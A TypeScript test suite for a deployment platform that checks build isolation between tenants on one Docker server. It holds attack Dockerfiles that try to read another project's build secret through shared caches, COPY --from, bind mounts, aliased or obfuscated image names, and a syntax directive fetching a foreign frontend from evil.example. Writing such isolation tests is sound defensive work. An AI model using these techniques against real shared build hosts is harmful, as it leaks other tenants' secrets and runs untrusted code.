/** Two projects on one server, and one of them is after what the other's builds left there. Tried on each Docker. */
import assert from 'node:assert/strict';
import type { TestContext } from 'node:test';
import type { VariantName } from '../../lab/servers/variants.ts';
import { type Body, type DeployScene, startDeployScene, succeeded } from './deployments.ts';
import type { TestLab } from './lab.ts';

/** What its build found in caches, and which secret it was made with. The steps are the same for whoever builds it. */
const dockerfile = `FROM node:24-slim
RUN --mount=type=secret,id=TOKEN cp /run/secrets/TOKEN /made-with
ARG WHOSE
RUN --mount=type=cache,id=deps,target=/deps (cat /deps/file || echo nothing) > /named; echo "$WHOSE" > /deps/file
RUN --mount=type=cache,target=/root/.npm (cat /root/.npm/file || echo nothing) > /usual; echo "$WHOSE" > /root/.npm/file
COPY server.js /server.js
EXPOSE 8080
CMD ["node", "/server.js"]
`;

const server = `
const { readFileSync } = require('node:fs');
const built = ['/made-with', '/named', '/usual'].map((path) => readFileSync(path, 'utf8').trim());
require('node:http').createServer((_, answer) => answer.end(built.join(' '))).listen(8080);`;

const settings = { port: 8080, healthPath: null, drainSeconds: 1, stopSeconds: 1 };

const atBuild = (key: string, value: string, secret: boolean) => ({ key, value, secret, target: 'build' });

function variables(whose: string) {
  return [atBuild('TOKEN', `token-of-${whose}`, true), atBuild('WHOSE', whose, false)];
}

/** How a Dockerfile may use an image; `{}` stands for its name. */
const uses = {
  'from.Dockerfile': 'FROM {}\n',
  'copy.Dockerfile': 'FROM node:24-slim\nCOPY --from={} /made-with /stolen\nRUN cat /stolen\n',
  'mount.Dockerfile':
    'FROM node:24-slim\nRUN --mount=type=bind,from={},target=/theirs cat /theirs/made-with\n',
};

export async function proveBuildSeparation(t: TestContext, lab: TestLab, variant: VariantName) {
  const scene = await startDeployScene(t, lab, { variant });
  // The BuildKit of Docker 20.10 cannot fetch from the lab's registry itself.
  await scene.server.ssh('docker pull --quiet node:24-slim');
  const files = { Dockerfile: dockerfile, 'server.js': server };
  const victim = await scene.deployed({ name: 'victim', files, settings, variables: variables('victim') });
  succeeded(victim.deployment);

  await t.test(
    'whoever wants what the builds of another left gets neither its caches nor its layers',
    async () => {
      const thief = await scene.deployed({ name: 'thief', files, settings, variables: variables('thief') });
      succeeded(thief.deployment);
      assert.equal(await scene.page(thief.environmentId), 'token-of-thief nothing nothing');
    },
  );

  await t.test(
    'whoever wants to leave something for the builds of another leaves it for itself',
    async () => {
      const { environmentId } = victim;
      const next = { variables: [atBuild('WHOSE', 'victim-again', false)] };
      await scene.call('POST', `/environments/${environmentId}/variables`, next);
      succeeded(await scene.deploy(environmentId));
      assert.equal(await scene.page(environmentId), 'token-of-victim victim victim');
    },
  );

  await t.test('whoever wants the files of another project’s image can use it by no name', async () => {
    const { image, imageId } = await imageOf(scene, victim);
    // As the image was called by versions that named it after its environment.
    const [, tag = ''] = image.split(':');
    const oldName = image.replace(tag, 'old');
    await scene.server.ssh(`docker tag ${imageId} ${oldName}`);
    const others = { old: oldName, id: imageId, digest: `${image}@${imageId}` };
    const wishes = [
      ...Object.entries(uses).map(([path, text]) => [path, text.replace('{}', image)] as const),
      ...Object.entries(others).map(([path, name]) => [path, `FROM ${name}\n`] as const),
    ];
    // What no reader of the text would see.
    const pieced = ['pieced', `ARG A=${oldName.slice(0, 20)}\nFROM \${A}${oldName.slice(20)}\n`] as const;
    const all = new Map([...wishes, pieced]);
    const thief = await scene.deployed({
      name: 'reader',
      files: { ...files, ...Object.fromEntries(all) },
      settings,
      variables: variables('reader'),
      deploy: false,
    });
    const { environmentId } = thief;
    for (const dockerfilePath of all.keys()) {
      await scene.call('PATCH', `/environments/${environmentId}`, { settings: { dockerfilePath } });
      const { id, status, fault } = await scene.deploy(environmentId);
      assert.equal(status, 'failed', `${dockerfilePath} was built`);
      assert.equal(Object(fault).code, 'build_failed', JSON.stringify(fault));
      assert.doesNotMatch((await scene.lines(environmentId, id)).join('\n'), /token-of-victim/);
    }
  });

  await t.test('what was built before images had such names is still there to go back to', async () => {
    const { image, imageId } = await imageOf(scene, victim);
    const { environmentId, deployment } = victim;
    const tags = `docker image inspect --format '{{join .RepoTags "\\n"}}' ${imageId} | grep -v ^slipway/`;
    await scene.server.ssh(`set -e; docker tag ${imageId} ${image}; docker rmi $(${tags})`);
    const path = `/environments/${environmentId}/deployments/${deployment.id}/rollback`;
    const { id } = await scene.call('POST', path, {});
    succeeded(await scene.ended(environmentId, String(id)));
    assert.match((await scene.lines(environmentId, id)).join('\n'), /nothing has to be built/);
    assert.equal(await scene.page(environmentId), 'token-of-victim nothing nothing');
  });

  await t.test(
    'whoever wants a program of their own to do the build is refused, however they ask for it',
    async () => {
      const foreign = { Dockerfile: `# escape=\\\n# syntax = evil.example/frontend:1\n${dockerfile}` };
      const made = { files: { ...files, ...foreign }, settings, variables: variables('boss'), name: 'boss' };
      const { deployment } = await scene.deployed(made);
      assert.equal(Object(deployment.fault).code, 'build_failed');
      assert.match(String(Object(deployment.fault).message), /frontend that Slipway does not run/);
      assert.match(String(Object(deployment.fault).evidence), /evil\.example\/frontend:1/);
    },
  );
}

async function imageOf(
  scene: DeployScene,
  { environmentId, deployment }: { environmentId: string; deployment: Body },
) {
  const path = `/environments/${environmentId}/deployments/${deployment.id}`;
  const { plan, imageDigest } = await scene.call('GET', path);
  return { image: String(Object(Object(plan).build).image), imageId: String(imageDigest) };
}
